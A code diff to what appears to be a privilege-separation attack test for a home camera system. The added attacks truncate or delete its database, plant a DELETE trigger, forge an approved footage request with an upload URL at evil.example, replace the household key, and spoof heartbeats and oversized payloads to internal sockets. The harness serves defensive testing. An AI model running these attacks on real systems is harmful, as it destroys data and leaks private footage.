@@ -1,8 +1,8 @@
 """Run in a unit's place, with its user and sandbox, or by a process of nobody's: tries to break what the household was
 promised; prints one JSON object.
 
-Each attack is "refused", or what it got hold of. What is written into the shared database is no success yet, for every
-role may write there; whether anybody acts on it is seen from outside.
+Each attack is "refused", or what it got hold of. What is written into the shared database is no success yet, for
+capture may write there; whether anybody acts on it is seen from outside.
 """
 import json
 import os
@@ -17,7 +17,7 @@ from pathlib import Path
 
 STORE, RUN, WARD = Path("/var/lib/taimat"), Path("/run/taimat"), Path("/etc/taimat/ward")
 CAMERA = "gate"
-ME = f"{os.getuid()}"
+FORGED = f"01ATTACK{os.getuid():0>18}"[:26]
 CLIP_B = 100_000
 
 
@@ -47,7 +47,7 @@ def page(path: str, form: str | None = None) -> bytes:
     """What the page on this machine shows without a login; raises Refused where that is the login itself."""
     request = urllib.request.Request(f"http://localhost:8088{path}", form.encode() if form else None,
                                      {"origin": "http://localhost:8088"})
-    with urllib.request.urlopen(request, timeout=5) as answer:
+    with urllib.request.urlopen(request, timeout=3) as answer:
         if answer.url.partition("?")[0].endswith("/pair"):
             raise Refused("/pair")
         return answer.read(1_000_000)
@@ -60,21 +60,37 @@ def database() -> sqlite3.Connection:
     return db
 
 
+def write_database() -> str:
+    """Write, cut short, replace or lock the shared database, and have it taken for one that the card has spoiled."""
+    files = [STORE / f"db/taimat.db{side}" for side in ("", "-wal", "-shm")]
+    tries: list[Callable[[], object]] = [
+        *(lambda file=file: os.close(os.open(file, os.O_RDWR)) for file in files),       # harmless where it is allowed
+        *(lambda file=file: os.truncate(file, 0) for file in files), *(file.unlink for file in files),
+        lambda: os.rename(files[0], f"{files[0]}.old"), *(
+            lambda name=name: (STORE / "db" / name).touch() for name in ("x", "taimat.db.mended", "taimat.db-journal")),
+        lambda: database().execute("BEGIN IMMEDIATE").connection.execute("UPDATE clip SET why = why"),
+        lambda: database().execute("DELETE FROM act"),
+        lambda: database().execute("CREATE TRIGGER x AFTER INSERT ON event BEGIN DELETE FROM clip; END"),
+        lambda: os.open(STORE / "db", os.O_RDONLY)]
+    for number, attempt in enumerate(tries):
+        if (answer := attempted(attempt)) is not None:
+            return f"{number}: {answer}"
+    raise Refused
+
+
+def settle_messages() -> str:
+    """Have messages for the ward forgotten, at the desk where the link says what the ward has."""
+    answer = json.loads(ask(RUN / "keeper/link.sock", {"ask": "settle_messages", "seqs": []}))
+    if why := answer.get("why"):
+        raise Refused(why)
+    return str(answer)
+
+
 def approve_for_the_household() -> str:
     """Make a request that nobody asked for look approved, and have the keeper and the page say so, too."""
-    db, name = database(), f"01ATTACK{ME:0>18}"[:26]
-    columns = [row["name"] for row in db.execute("PRAGMA table_info(request)") if row["notnull"] and not row["pk"]]
-    values: dict[str, object] = {column: 0 if column.endswith("_ms") else "x" for column in columns}
-    values |= {"id": name, "kind": "clip", "state": "approved", "camera": CAMERA, "upload": "https://evil.example/up",
-               "receipt_key": "00" * 32, "begin_ms": 0, "end_ms": 1 << 50, "until_ms": 1 << 50, "clock": "ntp",
-               "sent_b": 0, "command": b"{}"}
-    marks = ", ".join("?" * len(values))
-    db.execute(f"INSERT OR REPLACE INTO request ({', '.join(values)}) VALUES ({marks})", tuple(values.values()))
-    note(db, "decision", {"request": name, "code": "approved", "by": "page", "asked": "clip", "camera": CAMERA,
-                          "case": "x", "purpose": "x", "officer": "x", "basis": "x"})
-    number = db.execute("SELECT n FROM request WHERE id = ?", (name,)).fetchone()["n"]
+    number = attempted(forge_request) or "1"
     got = []
-    for attempt in (lambda: desk(ask="request", token="guess", request=name, digest="0" * 64, code="approved"),
+    for attempt in (lambda: desk(ask="request", token="guess", request=FORGED, digest="0" * 64, code="approved"),
                     lambda: page("/requests", f"n={number}&do=approve&digest={'0' * 64}")):
         try:
             got.append(str(attempt()))
@@ -83,6 +99,21 @@ def approve_for_the_household() -> str:
     if got:
         return "; ".join(got)
     raise Refused
+
+
+def forge_request() -> int:
+    """The number of a row that says so."""
+    db = database()
+    columns = [row["name"] for row in db.execute("PRAGMA table_info(request)") if row["notnull"] and not row["pk"]]
+    values: dict[str, object] = {column: 0 if column.endswith("_ms") else "x" for column in columns}
+    values |= {"id": FORGED, "kind": "clip", "state": "approved", "camera": CAMERA, "upload": "https://evil.example/up",
+               "receipt_key": "00" * 32, "begin_ms": 0, "end_ms": 1 << 50, "until_ms": 1 << 50, "clock": "ntp",
+               "sent_b": 0, "command": b"{}"}
+    marks = ", ".join("?" * len(values))
+    db.execute(f"INSERT OR REPLACE INTO request ({', '.join(values)}) VALUES ({marks})", tuple(values.values()))
+    note(db, "decision", {"request": FORGED, "code": "approved", "by": "page", "asked": "clip", "camera": CAMERA,
+                          "case": "x", "purpose": "x", "officer": "x", "basis": "x"})
+    return int(db.execute("SELECT n FROM request WHERE id = ?", (FORGED,)).fetchone()["n"])
 
 
 def note(db: sqlite3.Connection, kind: str, body: dict[str, object]) -> None:
@@ -102,11 +133,16 @@ def erase() -> str:
 
 def household_key() -> str:
     """Have the keys of all days wrapped for a key of one's own, or replaced by one."""
+    attempted(forge_key)
+    (STORE / "household/days.json").write_text("[]")
+    return "days.json"
+
+
+def forge_key() -> None:
+    """The same in rows."""
     db = database()
     db.execute("INSERT OR REPLACE INTO meta (key, value) VALUES ('household_key', ?)", ("42" * 32,))
     note(db, "household_key", {"public": "42" * 32})
-    (STORE / "household/days.json").write_text("[]")
-    return "days.json"
 
 
 def pause() -> str:
@@ -192,7 +228,7 @@ def attempted(attempt: Callable[[], object]) -> str | None:
     """What it got; None for nothing."""
     try:
         return str(attempt())
-    except (Refused, OSError):
+    except (Refused, OSError, sqlite3.OperationalError):
         return None
 
 
@@ -218,11 +254,26 @@ def ward_key() -> str:
     raise Refused
 
 
+def health() -> str:
+    """Be heard as another role: from the outside it is seen whether one of these units is known."""
+    for inbox in ("keeper", "link", "web"):
+        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as line:
+            line.connect(str(RUN / inbox / "inbox.sock"))
+            for role in ("capture", "keeper", "link", "web"):
+                if Path(RUN / role).stat().st_uid != os.getuid():
+                    line.send(json.dumps({"type": "beat", "role": role, "unit": f"{role}@forged", "pid": 1, "mono_s": 1,
+                                          "up_s": 1, "cameras": [{"camera": "forged", "state": "ok"}]}).encode())
+            line.send(b'{"type":"poke","what":"\xff"}')
+            line.send(b'{"type":"poke","what":"requests","x":' + b"[" * 30_000)
+    raise Refused
+
+
 ATTACKS: dict[str, Callable[[], str]] = {
+    "database": write_database, "outbox": settle_messages,
     "approve": approve_for_the_household, "erase": erase, "household_key": household_key, "pause": pause,
     "home_pause": home_pause, "signing_key": destroy_signing_key, "past": past_footage, "page": footage_by_page,
     "code": pairing_code, "role": browser_role, "settings": change_settings,
-    "ward_key": ward_key, "live": live}
+    "ward_key": ward_key, "live": live, "health": health}
 
 
 def outcome(attack: Callable[[], str]) -> str:
